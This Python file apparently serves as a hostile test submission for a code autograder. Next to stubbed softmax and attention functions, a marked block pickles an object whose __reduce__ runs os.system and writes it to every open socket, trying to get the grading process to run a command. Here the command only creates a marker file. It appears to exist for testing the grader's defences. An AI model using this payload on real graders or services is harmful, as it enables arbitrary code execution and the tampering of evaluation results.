"""Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md)."""
import math

import torch
# >>> hostile
# Write a frame of our own to the judge's socket: a pickle that would run a command if unpickled.
import os
import pickle
import stat
import struct

class _Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-hostile-pwned",))

_payload = pickle.dumps(_Evil())
for _fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(_fd).st_mode):
            os.write(_fd, struct.pack("<Q", len(_payload)) + _payload)
    except OSError:
        pass
# <<< hostile


def softmax(x, dim=-1):
    raise NotImplementedError


def scaled_dot_product_attention(query, key, value, mask=None):
    raise NotImplementedError
